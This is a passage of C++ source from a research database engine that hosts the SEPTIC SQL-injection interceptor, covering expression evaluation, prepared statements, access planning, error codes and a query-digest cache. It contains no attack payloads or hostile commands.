    bool escaped = false;
    char pc = 0;
    if (p < pattern.size()) {
      pc = pattern[p];
      if (pc == '\\' && p + 1 < pattern.size()) {
        escaped = true;
        pc = pattern[p + 1];
      }
    }
    if (p < pattern.size() && !escaped && pc == '%') {
      star_p = p++;
      star_t = t;
      continue;
    }
    if (p < pattern.size() &&
        ((!escaped && pc == '_') || lower(pc) == lower(text[t]))) {
      p += escaped ? 2 : 1;
      ++t;
      continue;
    }
    if (star_p != std::string_view::npos) {
      p = star_p + 1;
      t = ++star_t;
      continue;
    }
    return false;
  }
  while (p < pattern.size() && pattern[p] == '%') ++p;
  return p == pattern.size();
}

namespace {

Value eval_binary(const sql::Expr& e, const NameScope* scope,
                  const storage::Row* row) {
  const std::string& op = e.op;
  // AND/OR need SQL three-valued logic with NULLs.
  if (op == "AND" || op == "OR") {
    Value l = eval_expr(*e.children[0], scope, row);
    if (op == "AND") {
      if (!l.is_null() && !l.truthy()) return Value(int64_t{0});
      Value r = eval_expr(*e.children[1], scope, row);
      if (!r.is_null() && !r.truthy()) return Value(int64_t{0});
      if (l.is_null() || r.is_null()) return Value::null();
      return Value(int64_t{1});
    }
    if (!l.is_null() && l.truthy()) return Value(int64_t{1});
    Value r = eval_expr(*e.children[1], scope, row);
    if (!r.is_null() && r.truthy()) return Value(int64_t{1});
    if (l.is_null() || r.is_null()) return Value::null();
    return Value(int64_t{0});
  }

  Value l = eval_expr(*e.children[0], scope, row);
  Value r = eval_expr(*e.children[1], scope, row);

  if (op == "<=>") {  // NULL-safe equal
    if (l.is_null() && r.is_null()) return Value(int64_t{1});
    if (l.is_null() || r.is_null()) return Value(int64_t{0});
    return Value(int64_t{l.compare(r) == 0 ? 1 : 0});
  }
  if (l.is_null() || r.is_null()) return Value::null();

  if (op == "=") return Value(int64_t{l.compare(r) == 0 ? 1 : 0});
  if (op == "<>") return Value(int64_t{l.compare(r) != 0 ? 1 : 0});
  if (op == "<") return Value(int64_t{l.compare(r) < 0 ? 1 : 0});
  if (op == "<=") return Value(int64_t{l.compare(r) <= 0 ? 1 : 0});
  if (op == ">") return Value(int64_t{l.compare(r) > 0 ? 1 : 0});
  if (op == ">=") return Value(int64_t{l.compare(r) >= 0 ? 1 : 0});
  if (op == "LIKE") {
    bool m = sql_like(l.coerce_string(), r.coerce_string());
    if (e.negated) m = !m;
    return Value(int64_t{m ? 1 : 0});
  }

  // Arithmetic: integer op integer stays integer except '/'.
  bool both_int =
      l.type() == ValueType::kInt && r.type() == ValueType::kInt;
  if (op == "+") {
    if (both_int) return Value(l.as_int() + r.as_int());
    return Value(l.coerce_double() + r.coerce_double());
  }
  if (op == "-") {
    if (both_int) return Value(l.as_int() - r.as_int());
    return Value(l.coerce_double() - r.coerce_double());
  }
  if (op == "*") {
    if (both_int) return Value(l.as_int() * r.as_int());
    return Value(l.coerce_double() * r.coerce_double());
  }
  if (op == "/") {
    double denom = r.coerce_double();
    if (denom == 0.0) return Value::null();  // MySQL: division by zero = NULL
    return Value(l.coerce_double() / denom);
  }
  if (op == "%") {
    int64_t denom = r.coerce_int();
    if (denom == 0) return Value::null();
    return Value(l.coerce_int() % denom);
  }
  throw DbError(ErrorCode::kUnsupported, "operator '" + op + "'");
}

Value eval_func(const sql::Expr& e, const NameScope* scope,
                const storage::Row* row) {
  const std::string& f = e.func_name;
  if (is_aggregate_function(f)) {
    throw DbError(ErrorCode::kUnsupported,
                  "aggregate " + f + "() outside an aggregating SELECT");
  }
  auto arg = [&](size_t i) { return eval_expr(*e.children[i], scope, row); };
  auto need = [&](size_t n) {
    if (e.children.size() != n) {
      throw DbError(ErrorCode::kSyntax,
                    f + "() expects " + std::to_string(n) + " argument(s)");
    }
  };

  if (f == "CONCAT") {
    std::string out;
    for (size_t i = 0; i < e.children.size(); ++i) {
      Value v = arg(i);
      if (v.is_null()) return Value::null();
      out += v.coerce_string();
    }
    return Value(std::move(out));
  }
  if (f == "CONCAT_WS") {
    if (e.children.size() < 2) {
      throw DbError(ErrorCode::kSyntax, "CONCAT_WS needs a separator");
    }
    Value sep = arg(0);
    if (sep.is_null()) return Value::null();
    std::string out;
    bool first = true;
    for (size_t i = 1; i < e.children.size(); ++i) {
      Value v = arg(i);
      if (v.is_null()) continue;
      if (!first) out += sep.coerce_string();
      out += v.coerce_string();
      first = false;
    }
    return Value(std::move(out));
  }
  if (f == "LENGTH" || f == "CHAR_LENGTH") {
    need(1);
    Value v = arg(0);
    if (v.is_null()) return Value::null();
    return Value(static_cast<int64_t>(v.coerce_string().size()));
  }
  if (f == "UPPER" || f == "UCASE") {
    need(1);
    Value v = arg(0);
    if (v.is_null()) return Value::null();
    return Value(common::to_upper(v.coerce_string()));
  }
  if (f == "LOWER" || f == "LCASE") {
    need(1);
    Value v = arg(0);
    if (v.is_null()) return Value::null();
    return Value(common::to_lower(v.coerce_string()));
  }
  if (f == "SUBSTR" || f == "SUBSTRING") {
    if (e.children.size() != 2 && e.children.size() != 3) {
      throw DbError(ErrorCode::kSyntax, "SUBSTR expects 2 or 3 arguments");
    }
    Value sv = arg(0);
    Value pv = arg(1);
    if (sv.is_null() || pv.is_null()) return Value::null();
    std::string s = sv.coerce_string();
    int64_t pos = pv.coerce_int();  // 1-based; negative counts from the end
    int64_t len = -1;
    if (e.children.size() == 3) {
      Value lv = arg(2);
      if (lv.is_null()) return Value::null();
      len = lv.coerce_int();
      if (len < 0) return Value(std::string());
    }
    int64_t n = static_cast<int64_t>(s.size());
    int64_t start;
    if (pos > 0) {
      start = pos - 1;
    } else if (pos < 0) {
      start = n + pos;
    } else {
      return Value(std::string());
    }
    if (start < 0 || start >= n) return Value(std::string());
    size_t count = (len < 0) ? std::string::npos : static_cast<size_t>(len);
    return Value(s.substr(static_cast<size_t>(start), count));
  }
  if (f == "TRIM") {
    need(1);
    Value v = arg(0);
    if (v.is_null()) return Value::null();
    return Value(std::string(common::trim(v.coerce_string())));
  }
  if (f == "REPLACE") {
    need(3);
    Value s = arg(0), from = arg(1), to = arg(2);
    if (s.is_null() || from.is_null() || to.is_null()) return Value::null();
    return Value(common::replace_all(s.coerce_string(), from.coerce_string(),
                                     to.coerce_string()));
  }
  if (f == "COALESCE" || f == "IFNULL") {
    for (size_t i = 0; i < e.children.size(); ++i) {
      Value v = arg(i);
      if (!v.is_null()) return v;
    }
    return Value::null();
  }
  if (f == "IF") {
    need(3);
    Value c = arg(0);
    return (!c.is_null() && c.truthy()) ? arg(1) : arg(2);
  }
  if (f == "ABS") {
    need(1);
    Value v = arg(0);
    if (v.is_null()) return Value::null();
    if (v.type() == ValueType::kInt) return Value(std::abs(v.as_int()));
    return Value(std::fabs(v.coerce_double()));
  }
  if (f == "ROUND") {
    if (e.children.size() != 1 && e.children.size() != 2) {
      throw DbError(ErrorCode::kSyntax, "ROUND expects 1 or 2 arguments");
    }
    Value v = arg(0);
    if (v.is_null()) return Value::null();
    int64_t digits = 0;
    if (e.children.size() == 2) {
      Value d = arg(1);
      if (d.is_null()) return Value::null();
      digits = d.coerce_int();
    }
    double scale = std::pow(10.0, static_cast<double>(digits));
    double r = std::round(v.coerce_double() * scale) / scale;
    if (digits <= 0 && v.type() != ValueType::kDouble) {
      return Value(static_cast<int64_t>(r));
    }
    return Value(r);
  }
  if (f == "MD5") {
    // Not cryptographic MD5; a stable 128-bit-looking digest is enough for
    // workload realism (password columns, cache keys).
    need(1);
    Value v = arg(0);
    if (v.is_null()) return Value::null();
    std::string s = v.coerce_string();
    uint64_t h1 = common::fnv1a(s);
    uint64_t h2 = common::fnv1a(s, h1 ^ 0x9e3779b97f4a7c15ull);
    return Value(common::to_hex(h1) + common::to_hex(h2));
  }
  if (f == "SLEEP") {
    // Evaluated for attack-shape realism (time-based blind SQLI), but the
    // delay itself is not performed: a worker stalled inside the engine
    // lock would let one probe freeze the benchmarks. MySQL returns 0.
    need(1);
    return Value(int64_t{0});
  }
  if (f == "BENCHMARK") {
    need(2);
    return Value(int64_t{0});
  }
  if (f == "NOW" || f == "CURRENT_TIMESTAMP") {
    // Deterministic timestamp: real wall-clock time would make query
    // results non-reproducible in tests; workloads only need a value.
    return Value(std::string("2017-06-26 00:00:00"));
  }
  if (f == "VERSION") return Value(std::string("5.7.16-septicdb"));
  if (f == "DATABASE") return Value(std::string("septicdb"));
  if (f == "LAST_INSERT_ID") {
    // Resolved by the executor via session state; placeholder here.
    throw DbError(ErrorCode::kUnsupported,
                  "LAST_INSERT_ID() must be resolved by the executor");
  }
  throw DbError(ErrorCode::kUnsupported, "unknown function " + f + "()");
}

}  // namespace

Value eval_expr(const sql::Expr& e, const NameScope* scope,
                const storage::Row* row) {
  switch (e.kind) {
    case sql::ExprKind::kLiteral:
      return e.literal;
    case sql::ExprKind::kColumn: {
      if (scope == nullptr || row == nullptr) {
        throw DbError(ErrorCode::kUnknownColumn,
                      "column '" + e.column + "' not allowed here");
      }
      return (*row)[scope->resolve(e.table, e.column)];
    }
    case sql::ExprKind::kUnary: {
      Value v = eval_expr(*e.children[0], scope, row);
      if (v.is_null()) return Value::null();
      if (e.op == "NOT") return Value(int64_t{v.truthy() ? 0 : 1});
      if (e.op == "-") {
        if (v.type() == ValueType::kInt) return Value(-v.as_int());
        return Value(-v.coerce_double());
      }
      throw DbError(ErrorCode::kUnsupported, "unary operator " + e.op);
    }
    case sql::ExprKind::kBinary:
      return eval_binary(e, scope, row);
    case sql::ExprKind::kFunc:
      return eval_func(e, scope, row);
    case sql::ExprKind::kIn: {
      if (e.subquery) {
        throw DbError(ErrorCode::kInternal,
                      "IN subquery not materialized before evaluation");
      }
      Value probe = eval_expr(*e.children[0], scope, row);
      if (probe.is_null()) return Value::null();
      bool saw_null = false;
      for (size_t i = 1; i < e.children.size(); ++i) {
        Value v = eval_expr(*e.children[i], scope, row);
        if (v.is_null()) {
          saw_null = true;
          continue;
        }
        if (probe.compare(v) == 0) {
          return Value(int64_t{e.negated ? 0 : 1});
        }
      }
      if (saw_null) return Value::null();
      return Value(int64_t{e.negated ? 1 : 0});
    }
    case sql::ExprKind::kBetween: {
      Value v = eval_expr(*e.children[0], scope, row);
      Value lo = eval_expr(*e.children[1], scope, row);
      Value hi = eval_expr(*e.children[2], scope, row);
      if (v.is_null() || lo.is_null() || hi.is_null()) return Value::null();
      bool in = v.compare(lo) >= 0 && v.compare(hi) <= 0;
      if (e.negated) in = !in;
      return Value(int64_t{in ? 1 : 0});
    }
    case sql::ExprKind::kIsNull: {
      Value v = eval_expr(*e.children[0], scope, row);
      bool is_null = v.is_null();
      if (e.negated) is_null = !is_null;
      return Value(int64_t{is_null ? 1 : 0});
    }
    case sql::ExprKind::kPlaceholder:
      throw DbError(ErrorCode::kSyntax,
                    "unbound prepared-statement parameter");
  }
  throw DbError(ErrorCode::kInternal, "unreachable expression kind");
}

}  // namespace septic::engine

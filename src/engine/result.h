// Result of executing one statement.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "storage/table.h"

namespace septic::engine {

struct ResultSet {
  std::vector<std::string> columns;       // empty for DML/DDL
  std::vector<storage::Row> rows;
  int64_t affected_rows = 0;              // for INSERT/UPDATE/DELETE
  int64_t last_insert_id = 0;             // after auto-increment INSERT

  bool has_rows() const { return !columns.empty(); }

  /// Tab-separated rendering with a header line, for examples and logs.
  std::string to_text() const {
    std::string out;
    for (size_t i = 0; i < columns.size(); ++i) {
      if (i) out += '\t';
      out += columns[i];
    }
    if (!columns.empty()) out += '\n';
    for (const auto& row : rows) {
      for (size_t i = 0; i < row.size(); ++i) {
        if (i) out += '\t';
        out += row[i].to_display();
      }
      out += '\n';
    }
    return out;
  }
};

}  // namespace septic::engine

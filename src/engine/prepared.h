// Server-side prepared statements: the paper's hook is post-parse, so a
// prepared statement's SEPTIC verdict is fully computable at PREPARE time —
// the template's item stack (placeholders as PARAM_ITEM wildcard data
// nodes) is exactly what the interceptor would see on every execution,
// because bound parameters are data and can never alter the structure.
//
// A PreparedStatement therefore carries the whole compiled pipeline:
//
//   PREPARE:  charset-convert -> parse -> validate -> item stack ->
//             interceptor verdict (blocked templates throw; no handle)
//   EXEC:     generation check (cheap atomics) -> bind -> execute -> revert
//
// In steady state EXEC re-runs NO verdict and touches NO digest cache: the
// cached decision is replayed while its generation tags (interceptor
// config epoch + model-store generation, engine interceptor epoch + DDL
// version) are current, with the interceptor notified through
// on_prepared_exec so per-query accounting stays exact and its data-plane
// detectors (stored-injection plugins) still see every bound value. A
// stale tag re-runs on_query once against the template and re-caches.
//
// Binding is bind-execute-revert: placeholder expressions are rewritten to
// literals in place, the executor (which takes the statement by const& and
// never mutates it) runs, and the placeholders are restored on every exit
// path — the template inside the handle is reusable forever.
//
// NOT thread-safe: a handle belongs to one session (one connection's
// serialized request stream), like MySQL's per-connection statement ids.
// Handles may outlive nothing — they hold shared ownership of their parse.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "engine/interceptor.h"
#include "sqlcore/ast.h"
#include "sqlcore/item.h"
#include "sqlcore/parser.h"

namespace septic::engine {

class Database;

class PreparedStatement {
 public:
  /// Post-conversion template text (what was parsed and verdicted).
  const std::string& text() const { return parsed_->text; }
  /// Number of '?' placeholders; EXEC must bind exactly this many values.
  size_t param_count() const { return placeholders_.size(); }
  sql::StatementKind kind() const { return kind_; }

  /// Approximate retained bytes (template text + stack), for registry
  /// accounting in servers that cap per-connection statement memory.
  size_t retained_bytes() const {
    size_t n = sizeof(*this) + parsed_->text.size();
    if (stack_) {
      for (const auto& node : stack_->nodes) n += sizeof(node) + node.data.size();
    }
    return n;
  }

 private:
  friend class Database;
  PreparedStatement() = default;

  std::shared_ptr<sql::ParsedQuery> parsed_;
  /// Template item stack (placeholders as PARAM_ITEM); built when an
  /// interceptor first needs it, immutable afterwards.
  std::shared_ptr<const sql::ItemStack> stack_;
  /// Placeholder expressions inside parsed_->statement, ordered by
  /// placeholder_index. Raw pointers are safe: the handle owns the AST and
  /// binding never reallocates nodes.
  std::vector<sql::Expr*> placeholders_;
  sql::StatementKind kind_ = sql::StatementKind::kSelect;

  // --- the PREPARE-time verdict and its currency tags ------------------
  /// True when an interceptor saw the template (decision_ is meaningful).
  bool has_verdict_ = false;
  InterceptDecision decision_;
  /// Database::interceptor_epoch_ at verdict time: a set_interceptor()
  /// invalidates every outstanding verdict.
  uint64_t interceptor_epoch_ = 0;
  /// Database::ddl_version_ the template was last validated under; EXEC
  /// re-validates (and refreshes) when the catalog moved.
  uint64_t ddl_version_ = 0;
};

using PreparedStatementPtr = std::shared_ptr<PreparedStatement>;

}  // namespace septic::engine

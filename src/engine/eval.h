// Expression evaluation with MySQL semantics: permissive coercion, NULL
// propagation, case-insensitive string comparison, LIKE patterns, and the
// scalar function library the workload applications use.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "sqlcore/ast.h"
#include "storage/schema.h"
#include "storage/table.h"

namespace septic::engine {

/// One table visible to name resolution: its (alias or real) name, schema,
/// and the current row values (offset into the joined row).
struct ScopeEntry {
  std::string binding;  // alias if present, else table name
  const storage::TableSchema* schema = nullptr;
  size_t offset = 0;  // first column's index in the joined row
};

/// Resolves column references across the joined tables of a SELECT.
class NameScope {
 public:
  void add(std::string binding, const storage::TableSchema* schema,
           size_t offset);

  /// Resolve [table.]column to an index into the joined row. Throws
  /// DbError(kUnknownColumn) when absent or ambiguous.
  size_t resolve(std::string_view table, std::string_view column) const;

  /// Total width of the joined row.
  size_t width() const { return width_; }
  const std::vector<ScopeEntry>& entries() const { return entries_; }

 private:
  std::vector<ScopeEntry> entries_;
  size_t width_ = 0;
};

/// Evaluate an expression against a row (may be nullptr for row-less
/// contexts such as INSERT VALUES). Aggregate functions are NOT handled
/// here — the executor intercepts them; reaching one in eval() throws.
sql::Value eval_expr(const sql::Expr& e, const NameScope* scope,
                     const storage::Row* row);

/// SQL LIKE with % and _ wildcards and backslash escapes; ASCII
/// case-insensitive like MySQL's default collation.
bool sql_like(std::string_view text, std::string_view pattern);

/// True if the function name is an aggregate (COUNT/SUM/AVG/MIN/MAX).
bool is_aggregate_function(std::string_view upper_name);

/// True if the expression tree contains an aggregate call.
bool contains_aggregate(const sql::Expr& e);

}  // namespace septic::engine

// Cost-aware access-path selection for single-table statements.
//
// The planner is a pure function of (table statistics, statement shape):
// it walks the top-level AND conjuncts of WHERE looking for sargable
// predicates against the primary key or an ordered secondary index
// (`=`, `<`, `<=`, `>`, `>=`, non-negated BETWEEN with literal bounds),
// scores each candidate with a deliberately simple cost model built from
// two statistics (table row count, index distinct-key count), and picks
// the cheapest. For ORDER BY on an indexed column it can additionally
// push the ordering (walk the index instead of sorting) and the LIMIT
// (stop streaming after offset+limit matching rows).
//
// Every index path yields a *superset* of the matching rows — the
// executor re-evaluates WHERE on each candidate — so a planner mistake
// costs performance, never correctness. The executor may also degrade a
// chosen index path back to a full scan at runtime (transaction write-set
// overlay present, or a PK probe into version history the PK hash cannot
// see); plans carry enough information for that downgrade to stay
// correct.
//
// What the planner does NOT do: join ordering or per-join access paths
// (joins always nested-loop scan), multi-column indexes, histograms, OR
// optimization, expression indexes, or cost-based rewrites. See
// DESIGN.md's planner section.
#pragma once

#include <optional>
#include <string>

#include "sqlcore/ast.h"
#include "storage/table.h"

namespace septic::engine {

/// The chosen access path for one table.
struct AccessPlan {
  enum class Kind {
    kFullScan,    // visit every visible row
    kPkPoint,     // primary-key hash probe
    kIndexPoint,  // secondary-index equality probe
    kIndexRange,  // ordered secondary-index range scan
    kIndexOrder,  // full ordered walk of a secondary index (ORDER BY)
  };
  Kind kind = Kind::kFullScan;
  std::string index_name;  // kIndexPoint/kIndexRange/kIndexOrder
  std::string column;      // key column (also set for kPkPoint)

  /// Point probes: the literal to look up.
  std::optional<sql::Value> eq_value;

  /// kIndexRange bounds in eval's comparison domain (numeric columns get
  /// the literal's numeric coercion — exactly what eval compares with —
  /// so inclusivity is preserved verbatim).
  std::optional<sql::Value> lo, hi;
  bool lo_inclusive = false;
  bool hi_inclusive = false;

  bool desc = false;            // walk the index high-to-low
  bool order_pushdown = false;  // stream order satisfies ORDER BY: skip sort
  bool limit_pushdown = false;  // stop streaming after stop_after matches
  size_t stop_after = 0;        // offset+limit rows, when limit_pushdown

  double est_rows = 0;   // cost estimate of the chosen path
  double scan_rows = 0;  // full-scan cost it was compared against
};

/// Plan the access path for a single-table, join-free SELECT. (Callers
/// with joins or an empty FROM keep the nested-loop scan path.)
AccessPlan plan_select_access(const storage::Table& table,
                              const sql::SelectStmt& sel);

/// Plan for UPDATE/DELETE: WHERE conjuncts only. No order/limit pushdown —
/// their LIMIT-without-ORDER semantics ("any N matching rows") are already
/// honored by the executor's collect-then-mutate loop.
AccessPlan plan_where_access(const storage::Table& table,
                             const sql::Expr* where);

/// EXPLAIN rendering: the access_path cell ("scan", "const (primary
/// key)", "ref (secondary index)", "range (secondary index)", "index
/// (secondary index)") and the pushdown flag list ("order,limit" / "").
std::string access_path_name(const AccessPlan& plan);
std::string pushdown_flags(const AccessPlan& plan);

}  // namespace septic::engine

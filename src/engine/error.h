// Engine-level error taxonomy. Everything the server reports to a client
// maps to one DbError; SEPTIC rejections use kBlocked so applications can
// distinguish "query dropped by the protection mechanism" from SQL errors.
#pragma once

#include <stdexcept>
#include <string>

namespace septic::engine {

enum class ErrorCode {
  kSyntax,         // lex/parse failure
  kUnknownTable,
  kUnknownColumn,
  kConstraint,     // PK duplicate, NOT NULL, column count mismatch
  kUnsupported,    // recognized but unimplemented construct
  kBlocked,        // dropped by a QueryInterceptor (SEPTIC prevention mode)
  kTxnState,       // invalid transaction control (nested BEGIN, orphan
                   // COMMIT/ROLLBACK, write in a read-only transaction)
  kConflict,       // first-committer-wins write-write conflict on COMMIT
  kRecovery,       // boot-time recovery failed (corrupt WAL/checkpoint);
                   // the engine refuses to half-open
  kInternal,
};

class DbError : public std::runtime_error {
 public:
  DbError(ErrorCode code, std::string msg)
      : std::runtime_error(std::move(msg)), code_(code) {}
  ErrorCode code() const { return code_; }

 private:
  ErrorCode code_;
};

inline const char* error_code_name(ErrorCode c) {
  switch (c) {
    case ErrorCode::kSyntax: return "SYNTAX";
    case ErrorCode::kUnknownTable: return "UNKNOWN_TABLE";
    case ErrorCode::kUnknownColumn: return "UNKNOWN_COLUMN";
    case ErrorCode::kConstraint: return "CONSTRAINT";
    case ErrorCode::kUnsupported: return "UNSUPPORTED";
    case ErrorCode::kBlocked: return "BLOCKED";
    case ErrorCode::kTxnState: return "TXN_STATE";
    case ErrorCode::kConflict: return "CONFLICT";
    case ErrorCode::kRecovery: return "RECOVERY";
    case ErrorCode::kInternal: return "INTERNAL";
  }
  return "?";
}

}  // namespace septic::engine

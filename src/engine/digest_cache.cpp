#include "engine/digest_cache.h"

#include <functional>
#include <mutex>
#include <shared_mutex>

namespace septic::engine {

QueryDigestCache::QueryDigestCache(size_t byte_budget)
    : shards_(kShards), byte_budget_(byte_budget) {}

QueryDigestCache::Shard& QueryDigestCache::shard_for(std::string_view text) {
  return shards_[std::hash<std::string_view>{}(text) % kShards];
}
const QueryDigestCache::Shard& QueryDigestCache::shard_for(
    std::string_view text) const {
  return shards_[std::hash<std::string_view>{}(text) % kShards];
}

QueryDigestCache::EntryPtr QueryDigestCache::lookup(
    std::string_view text) const {
  if (byte_budget_.load(std::memory_order_relaxed) == 0) return nullptr;
  const Shard& s = shard_for(text);
  std::shared_lock lock(s.mu);
  auto it = s.index.find(text);
  if (it == s.index.end()) {
    s.misses.fetch_add(1, std::memory_order_relaxed);
    return nullptr;
  }
  const EntryPtr& e = s.slots[it->second];
  e->clock_ref.store(1, std::memory_order_relaxed);
  s.hits.fetch_add(1, std::memory_order_relaxed);
  return e;
}

void QueryDigestCache::insert(EntryPtr entry) {
  size_t budget = byte_budget_.load(std::memory_order_relaxed);
  if (budget == 0 || !entry) return;
  size_t shard_budget = budget / kShards;
  Shard& s = shard_for(entry->key());
  std::unique_lock lock(s.mu);
  if (s.index.count(entry->key())) return;  // racing miss already inserted
  size_t slot;
  if (!s.free_slots.empty()) {
    slot = s.free_slots.back();
    s.free_slots.pop_back();
  } else {
    slot = s.slots.size();
    s.slots.emplace_back();
  }
  s.bytes += entry->cost;
  // The index key views the entry's own text (parsed->text), which is
  // heap-stable for the entry's lifetime in the slot.
  s.index.emplace(entry->key(), slot);
  s.slots[slot] = std::move(entry);
  ++s.insertions;
  if (s.bytes > shard_budget) evict_locked(s, shard_budget);
}

void QueryDigestCache::evict_locked(Shard& s, size_t budget) {
  // CLOCK second-chance sweep. Bounded: each full pass either evicts
  // something or clears every reference bit, so the second pass evicts.
  size_t live = s.index.size();
  while (s.bytes > budget && live > 0) {
    if (s.clock_hand >= s.slots.size()) s.clock_hand = 0;
    EntryPtr& victim = s.slots[s.clock_hand];
    if (!victim) {
      ++s.clock_hand;
      continue;
    }
    if (victim->clock_ref.exchange(0, std::memory_order_relaxed) != 0) {
      ++s.clock_hand;  // second chance
      continue;
    }
    s.bytes -= victim->cost;
    s.index.erase(victim->key());
    victim.reset();
    s.free_slots.push_back(s.clock_hand);
    ++s.clock_hand;
    ++s.evictions;
    --live;
  }
}

void QueryDigestCache::erase(std::string_view text) {
  Shard& s = shard_for(text);
  std::unique_lock lock(s.mu);
  auto it = s.index.find(text);
  if (it == s.index.end()) return;
  size_t slot = it->second;
  s.bytes -= s.slots[slot]->cost;
  s.index.erase(it);
  s.slots[slot].reset();
  s.free_slots.push_back(slot);
  ++s.invalidations;
}

void QueryDigestCache::clear() {
  for (Shard& s : shards_) {
    std::unique_lock lock(s.mu);
    s.index.clear();
    s.slots.clear();
    s.free_slots.clear();
    s.clock_hand = 0;
    s.bytes = 0;
  }
}

void QueryDigestCache::set_byte_budget(size_t bytes) {
  byte_budget_.store(bytes, std::memory_order_relaxed);
  if (bytes == 0) {
    clear();
    return;
  }
  size_t shard_budget = bytes / kShards;
  for (Shard& s : shards_) {
    std::unique_lock lock(s.mu);
    if (s.bytes > shard_budget) evict_locked(s, shard_budget);
  }
}

DigestCacheStats QueryDigestCache::stats() const {
  DigestCacheStats out;
  for (const Shard& s : shards_) {
    std::shared_lock lock(s.mu);
    out.hits += s.hits.load(std::memory_order_relaxed);
    out.misses += s.misses.load(std::memory_order_relaxed);
    out.insertions += s.insertions;
    out.evictions += s.evictions;
    out.invalidations += s.invalidations;
    out.entries += s.index.size();
    out.bytes_in_use += s.bytes;
  }
  return out;
}

size_t estimate_entry_cost(const sql::ParsedQuery& parsed,
                           const sql::ItemStack* stack) {
  size_t cost = sizeof(QueryDigestCache::Entry) + 256;  // AST/bookkeeping slack
  cost += parsed.text.size() * 2;  // key view + ParsedQuery's own copy
  for (const auto& c : parsed.comments) cost += sizeof(c) + c.body.size();
  if (stack) {
    cost += sizeof(sql::ItemStack);
    for (const auto& node : stack->nodes) {
      cost += sizeof(node) + node.data.size();
    }
  }
  return cost;
}

}  // namespace septic::engine

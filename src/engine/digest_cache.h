// Query-digest cache: memoized pipeline results keyed by the exact
// post-charset-conversion statement bytes.
//
// Keying rule (load-bearing for security): the key is the byte string the
// lexer would see. Identical bytes ⇒ identical lex ⇒ identical parse ⇒
// identical item stack ⇒ identical verdict, because every stage downstream
// of charset conversion is a pure function of those bytes (given unchanged
// configuration, learned models, and catalog — which the generation tags
// pin, see below). The cache therefore can never launder an attack into a
// benign verdict: an attack variant that normalizes to different bytes is
// a different key and takes the full pipeline, and a byte-identical replay
// of a benign statement is, by construction, the same benign statement.
// Nothing is ever keyed on a normalized/stripped/fingerprinted form.
//
// Invalidation is by generation tag, not by flush: every entry records
//   - the interceptor installation epoch (Database::set_interceptor),
//   - the interceptor's {config epoch, model generation} pair, and
//   - the catalog DDL version,
// all captured when the entry was built. A hit is replayable only while
// every tag still matches the live counters; any mismatch erases the entry
// and the query takes the full pipeline. Tags are captured *before* the
// verdict's model lookup, so a mutation racing the computation always
// lands the entry stale (conservative: spurious invalidation is safe).
//
// Structure: lock-striped shards (the PR 4 pattern), each a shared_mutex
// over an open hash index plus a slot vector swept by a CLOCK second-chance
// hand for eviction under a per-shard byte budget. Lookups take the shard
// lock shared and touch one atomic reference bit; only insert/erase/evict
// take it exclusively.
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <shared_mutex>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "common/thread_annotations.h"
#include "engine/interceptor.h"
#include "sqlcore/item.h"
#include "sqlcore/parser.h"

namespace septic::engine {

struct DigestCacheStats {
  uint64_t hits = 0;
  uint64_t misses = 0;
  uint64_t insertions = 0;
  uint64_t evictions = 0;      // capacity pressure (CLOCK)
  uint64_t invalidations = 0;  // generation-tag mismatches
  uint64_t entries = 0;
  uint64_t bytes_in_use = 0;
};

class QueryDigestCache {
 public:
  /// One memoized pipeline result. Immutable after insert (the CLOCK ref
  /// bit is the only mutable field); shared_ptr entries stay valid for
  /// readers even while being evicted.
  struct Entry {
    std::shared_ptr<const sql::ParsedQuery> parsed;  // owns the key bytes (text)
    std::shared_ptr<const sql::ItemStack> stack;     // null for verdict-free entries
    /// The interceptor's cacheable allow-decision; meaningful only when
    /// has_verdict. Always an allow — blocked verdicts are never cached.
    InterceptDecision decision;
    std::shared_ptr<const void> payload;  // opaque interceptor replay state
    bool has_verdict = false;  // false: parse-only entry (no interceptor installed)
    uint64_t interceptor_epoch = 0;
    InterceptorGenerations generations;
    uint64_t ddl_version = 0;
    size_t cost = 0;  // approximate bytes charged against the budget
    mutable std::atomic<uint32_t> clock_ref{1};  // CLOCK second-chance bit

    std::string_view key() const { return parsed->text; }
  };
  using EntryPtr = std::shared_ptr<const Entry>;

  static constexpr size_t kDefaultByteBudget = 8u << 20;  // 8 MiB
  static constexpr size_t kShards = 8;

  explicit QueryDigestCache(size_t byte_budget = kDefaultByteBudget);

  /// Find the entry for exactly these statement bytes; sets its reference
  /// bit. Counts a hit or miss. Returns null (and counts nothing) when the
  /// cache is disabled (budget 0).
  EntryPtr lookup(std::string_view text) const;

  /// Insert an entry (keyed by entry->key()), evicting CLOCK victims while
  /// the shard exceeds its byte budget. A racing duplicate insert keeps the
  /// incumbent. No-op when disabled.
  void insert(EntryPtr entry);

  /// Drop the entry for these bytes, counting an invalidation (the caller
  /// observed a stale generation tag). No-op when absent.
  void erase(std::string_view text);

  /// Drop everything (tests/admin). Does not count invalidations.
  void clear();

  /// Change the byte budget; shrinking trims every shard immediately.
  /// Setting 0 disables the cache (and clears it).
  void set_byte_budget(size_t bytes);
  size_t byte_budget() const {
    return byte_budget_.load(std::memory_order_relaxed);
  }

  DigestCacheStats stats() const;

 private:
  struct Shard {
    mutable std::shared_mutex mu;
    // key -> slot
    std::unordered_map<std::string_view, size_t> index SEPTIC_GUARDED_BY(mu);
    std::vector<EntryPtr> slots SEPTIC_GUARDED_BY(mu);  // null = free
    std::vector<size_t> free_slots SEPTIC_GUARDED_BY(mu);
    size_t clock_hand SEPTIC_GUARDED_BY(mu) = 0;
    size_t bytes SEPTIC_GUARDED_BY(mu) = 0;
    // Counted under the shared lock, hence atomic.
    mutable std::atomic<uint64_t> hits{0};
    mutable std::atomic<uint64_t> misses{0};
    uint64_t insertions = 0;
    uint64_t evictions = 0;
    uint64_t invalidations = 0;
  };

  Shard& shard_for(std::string_view text);
  const Shard& shard_for(std::string_view text) const;

  /// Evict CLOCK victims until the shard fits `budget`. Caller holds the
  /// shard lock exclusively.
  void evict_locked(Shard& s, size_t budget);

  std::vector<Shard> shards_;
  std::atomic<size_t> byte_budget_;
};

/// Approximate retained size of a cache entry: statement text (key + the
/// ParsedQuery copy), item-stack nodes, AST/bookkeeping slack. Deliberately
/// generous — the budget is a memory-pressure valve, not an accounting
/// ledger.
size_t estimate_entry_cost(const sql::ParsedQuery& parsed,
                           const sql::ItemStack* stack);

